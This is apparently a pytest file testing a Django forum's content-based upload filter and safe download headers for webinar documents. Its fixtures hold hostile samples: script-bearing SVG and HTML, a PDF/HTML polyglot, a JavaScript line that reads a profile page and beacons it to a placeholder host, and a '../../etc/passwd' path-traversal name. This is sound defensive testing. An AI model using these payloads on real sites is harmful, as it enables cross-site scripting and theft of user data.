"""
Webinar documents are judged by their content (issue 13, "Uploads").

Refused: what a browser could run (SVG with a script, HTML, JavaScript), a
polyglot (a PDF header, then HTML), a PDF header alone; nothing is stored and
the moderator reads why. Accepted: a real PDF, images, audio, Office and
OpenDocument files, UTF-8 text. Every download is an attachment with
``nosniff`` and ``Content-Security-Policy: sandbox``, served as its content's
type, and as ``application/octet-stream`` when that is not an accepted kind.
"""

import io
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from forum import uploads
from webinars.models import SessionDocument

from ..factories import small_pdf

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
JS = b"fetch('/compte/profil/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));\n"
POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40
OGG = b"OggS\x00\x02" + b"\x00" * 22 + b"\x01\x13OpusHead" + b"\x00" * 20


def odt() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx(*, macros: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if macros:
            archive.writestr("word/vbaProject.bin", b"\x00" * 10)
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", HTML)
    return buffer.getvalue()


def upload(client, session, name: str, content: bytes, content_type: str = "application/pdf"):
    return client.post(
        reverse("webinar_document_add", args=[session.pk]),
        {"title": "Document", "file": SimpleUploadedFile(name, content, content_type)},
        follow=True,
    )


@pytest.mark.parametrize(
    "name, content",
    [
        pytest.param("carte.svg", SVG, id="svg-with-script"),
        pytest.param("page.html", HTML, id="html"),
        pytest.param("outil.js", JS, id="javascript"),
        pytest.param("rapport.pdf", POLYGLOT, id="polyglot-pdf-html"),
        pytest.param("rapport.pdf", b"%PDF-1.4 only a header", id="pdf-header-alone"),
        pytest.param("archive.zip", plain_zip(), id="plain-zip"),
        pytest.param("macro.docx", docx(macros=True), id="docx-with-macros"),
        pytest.param("vieux.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, id="ole2"),
        pytest.param("prog.exe", b"MZ\x90\x00" + b"\x00" * 100, id="executable"),
        pytest.param("notes.txt", b"\n \n", id="blank-text"),
        pytest.param("notes.txt", b"\xff\xfe\x00n\x00o", id="utf16-text"),
        pytest.param("photo.png", PNG + HTML, id="png-with-html"),
    ],
)
def test_document_of_a_refused_kind_is_refused_and_nothing_stored(
    client_for, moderator, upcoming_session, name, content
):
    response = upload(client_for(moderator), upcoming_session, name, content)
    assert response.status_code == 400
    assert "Type de fichier refusé" in response.content.decode()
    assert not SessionDocument.objects.exists()


@pytest.mark.parametrize(
    "name, content, content_type, stored_as",
    [
        pytest.param("plan.pdf", small_pdf(), "application/pdf", ".pdf", id="pdf"),
        pytest.param("plan.js", small_pdf(), "application/pdf", ".pdf", id="pdf-named-js"),
        pytest.param("photo.png", PNG, "image/png", ".png", id="png"),
        pytest.param("photo.jpeg", JPEG, "image/jpeg", ".jpg", id="jpeg"),
        pytest.param("voix.opus", OGG, "audio/ogg", ".opus", id="opus"),
        pytest.param("cr.odt", odt(), "application/vnd.oasis.opendocument.text", ".odt", id="odt"),
        pytest.param(
            "cr.docx",
            docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ".docx",
            id="docx",
        ),
        pytest.param(
            "notes.txt",
            "Réunion à Ségou : 12 participantes.\n".encode(),
            "text/plain; charset=utf-8",
            ".txt",
            id="text",
        ),
        pytest.param(
            "liste.csv",
            "nom;région\nAwa;Ségou\n".encode(),
            "text/csv; charset=utf-8",
            ".csv",
            id="csv",
        ),
    ],
)
def test_document_of_an_accepted_kind_is_stored_and_served_safely(
    client_for, moderator, member, upcoming_session, name, content, content_type, stored_as
):
    upload(client_for(moderator), upcoming_session, name, content)
    document = SessionDocument.objects.get()
    assert document.file.name.endswith(stored_as)

    response = client_for(member).get(reverse("webinar_document", args=[document.pk]))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"


def test_a_stored_file_of_no_accepted_kind_is_served_as_bytes(
    member, moderator, upcoming_session, client_for
):
    """A file stored before the check (a .js, say) goes out as bytes, never as a script."""
    document = SessionDocument(session=upcoming_session, title="Ancien", added_by=moderator)
    document.file.save("outil.js", ContentFile(JS))

    response = client_for(member).get(reverse("webinar_document", args=[document.pk]))

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"


def test_identify_reads_content_not_names():
    assert uploads.identify(io.BytesIO(small_pdf())).content_type == "application/pdf"
    assert uploads.identify(io.BytesIO(SVG)) is None
    assert uploads.identify(io.BytesIO(b"\x00\x01\x02binary")) is None
    assert uploads.stored_name("../../etc/passwd.js", uploads.Kind("x", ".pdf")) == "passwd.pdf"
